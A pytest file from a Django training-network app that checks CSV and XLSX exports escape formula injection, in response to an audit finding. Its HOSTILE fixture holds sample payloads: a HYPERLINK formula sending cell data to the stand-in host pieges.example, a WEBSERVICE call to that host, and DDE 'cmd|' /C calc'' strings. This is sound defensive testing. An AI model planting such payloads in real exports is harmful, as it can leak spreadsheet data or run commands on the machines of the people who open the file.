"""Issue 16, point 9: formula injection in the exports. A cohort named
`=HYPERLINK("http://…"&B3,"Voir le détail")` became a live formula in the XLSX export of the
dashboard and a `=HYPERLINK` line in its CSV. Every CSV and XLSX the project writes goes through
`plombiers.lib.spreadsheet`: no text cell starts a formula, numbers stay numbers."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from plombiers.impact.tests import world as world_module
from plombiers.lib import spreadsheet
from plombiers.network.models import Trade

STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://pieges.example/?d="&B3,"Voir le détail")'
# One hostile name per label an export carries, each with another of the characters that start a
# formula.
HOSTILE = {
    "cohort": HYPERLINK,
    "school": "+cmd|' /C calc'!A0",
    "funder": "@SUM(1+1)*cmd|' /C calc'!A0",
    "prescriber": "-2+3+cmd|' /C calc'!A0",
    "trade": "\t=1+1",
    "trainer": '=WEBSERVICE("http://pieges.example")',
}
NUMBER = re.compile(r"-?\d+(,\d+)?")


@pytest.fixture
def hostile(cast):
    """The world of the impact tests, where the school team and the network named everything
    with formulas (names any manager or network staff member can type)."""
    world = world_module.build(cast)
    world.a1.name = HOSTILE["cohort"]
    world.a1.save(update_fields=["name"])
    cast.school_a.name = HOSTILE["school"]
    cast.school_a.save(update_fields=["name"])
    cast.funder_org.name = HOSTILE["funder"]
    cast.funder_org.save(update_fields=["name"])
    cast.prescriber_org.name = HOSTILE["prescriber"]
    cast.prescriber_org.save(update_fields=["name"])
    Trade.objects.filter(pk=cast.school_a.trade_id).update(name=HOSTILE["trade"])
    cast.trainer_a.first_name, cast.trainer_a.last_name = "", HOSTILE["trainer"]
    cast.trainer_a.save(update_fields=["first_name", "last_name"])
    return world


def csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:], newline=""), delimiter=";") for cell in row]


def check_csv(body: bytes) -> list[str]:
    cells = csv_cells(body)
    live = [c for c in cells if c.startswith(STARTS) and not NUMBER.fullmatch(c)]
    assert live == [], "a CSV cell a spreadsheet would run as a formula"
    return cells


def check_xlsx(body: bytes) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula in {cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(STARTS):
                        assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} is not marked as text"
    return texts


def _dashboard_exports(cast, world):
    """(role, URL, query, the hostile names the export must carry) of every dashboard export."""
    network = reverse("impact:network")
    school = reverse("impact:school", args=[cast.school_a.slug])
    funder = reverse("impact:funder", args=[cast.funder_org.pk])
    exports = []
    for fmt in ("csv", "xlsx"):
        for group, names in [
            ("cohort", ["cohort"]),
            ("school", ["school"]),
            ("prescriber", ["prescriber"]),
            ("funder", ["funder"]),
            ("trade", ["trade"]),
        ]:
            exports.append(("staff", network, {"format": fmt, "table": "groupes", "group_by": group}, names))
        exports.append(
            ("manager_a", school, {"format": fmt, "table": "groupes", "group_by": "cohort"}, ["cohort"])
        )
        exports.append(("staff", network, {"format": fmt, "table": "annees"}, []))
        exports.append(("staff", network, {"format": fmt, "table": "ensemble"}, []))
        exports.append(
            ("funder", funder, {"format": fmt, "table": "groupes", "group_by": "school"}, ["school"])
        )
    # The title row of an XLSX names the scope: the school, the funder.
    exports.append(("manager_a", school, {"format": "xlsx", "table": "ensemble"}, ["school"]))
    exports.append(("funder", funder, {"format": "xlsx", "table": "ensemble"}, ["funder"]))
    return exports


def test_no_dashboard_export_carries_a_live_formula(client, cast, hostile):
    for role, url, query, names in _dashboard_exports(cast, hostile):
        client.force_login(getattr(cast, role))
        response = client.get(url, query)
        assert response.status_code == 200, (role, url, query)
        if query["format"] == "csv":
            cells = check_csv(response.content)
            for name in names:
                assert f"'{HOSTILE[name]}" in cells, (role, url, query, name)
        else:
            texts = check_xlsx(response.content)
            for name in names:
                assert any(t.startswith(HOSTILE[name]) for t in texts), (role, url, query, name)


def test_the_audited_cohort_is_text_in_both_formats(client, cast, hostile):
    client.force_login(cast.staff)
    url = reverse("impact:network")
    body = client.get(url, {"format": "csv", "table": "groupes", "group_by": "cohort"}).content.decode()
    quoted = HYPERLINK.replace('"', '""')
    assert "\r\n=HYPERLINK" not in body and f'\r\n"\'{quoted}";' in body
    xlsx = client.get(url, {"format": "xlsx", "table": "groupes", "group_by": "cohort"}).content
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    cell = next(c for c in sheet["A"] if c.value == HYPERLINK)
    assert cell.data_type == "s" and cell.quotePrefix
    # The figures beside it are still numbers.
    assert all(isinstance(c.value, int | float) for c in sheet[cell.row][1:] if c.value is not None)


def test_the_open_data_csv_escapes_the_trade(client, cast, hostile):
    response = client.get(reverse("impact:opendata"))
    assert response.status_code == 200
    assert f"'{HOSTILE['trade']}" in check_csv(response.content)


def test_the_bpf_workbook_has_no_formula(client, cast, hostile):
    from plombiers.cohorts.models import TrainingSession

    # A trainer's name is a line of the BPF: the hostile trainer led a signed half-day.
    TrainingSession.objects.filter(locked_at__isnull=False).update(trainer=cast.trainer_a)
    year = (
        TrainingSession.objects.filter(locked_at__isnull=False, cohort__school=cast.school_a)
        .first()
        .date.year
    )
    client.force_login(cast.manager_a)
    response = client.get(reverse("funding:bpf_export", args=[cast.school_a.slug, year]))
    assert response.status_code == 200
    texts = check_xlsx(response.content)
    assert any(HOSTILE["school"] in t for t in texts) and any(HOSTILE["trainer"] in t for t in texts)


# --- the helper --------------------------------------------------------------------------------


@pytest.mark.parametrize("start", STARTS)
def test_the_helper_escapes_every_start_of_a_formula(start):
    assert spreadsheet.csv_value(f"{start}1+1") == f"'{start}1+1"
    sheet = spreadsheet.XlsxSheet("Essai")
    sheet.append([f"{start}1+1"])
    cell = openpyxl.load_workbook(io.BytesIO(sheet.to_bytes())).active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (f"{start}1+1", "s", True)


def test_numbers_stay_numbers():
    values = [-3, -1.5, Decimal("-2.25"), 0, "-3", "Chelles", None]
    assert [spreadsheet.csv_value(v) for v in values] == ["-3", "-1,5", "-2,25", "0", "'-3", "Chelles", ""]
    sheet = spreadsheet.XlsxSheet("Essai")
    sheet.append(values)
    row = openpyxl.load_workbook(io.BytesIO(sheet.to_bytes())).active[1]
    assert [c.value for c in row[:6]] == [-3, -1.5, -2.25, 0, "-3", "Chelles"]
    assert [c.data_type for c in row[:6]] == ["n", "n", "n", "n", "s", "s"]
    assert [c.quotePrefix for c in row[:6]] == [False, False, False, False, True, False]


def test_control_characters_do_not_break_the_workbook():
    sheet = spreadsheet.XlsxSheet("Essai")
    sheet.append(["Promo\x07 bip"])
    assert openpyxl.load_workbook(io.BytesIO(sheet.to_bytes())).active["A1"].value == "Promo bip"


# --- nothing else writes a spreadsheet ----------------------------------------------------------

WRITERS = re.compile(
    r"csv\.(writer|DictWriter)\b|from csv import [^\n]*\b(writer|DictWriter)\b|\bopenpyxl\b|\bxlsxwriter\b"
    r"|\bWorkbook\(|\.to_csv\(|\.to_excel\("
)


def test_every_spreadsheet_is_written_through_the_helper():
    root = Path(__file__).resolve().parents[2]
    helper = root / "lib" / "spreadsheet.py"
    writers = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path != helper and "tests" not in path.parts and WRITERS.search(path.read_text())
    )
    assert writers == []
    assert WRITERS.search(helper.read_text()), "the pattern finds the writers it looks for"
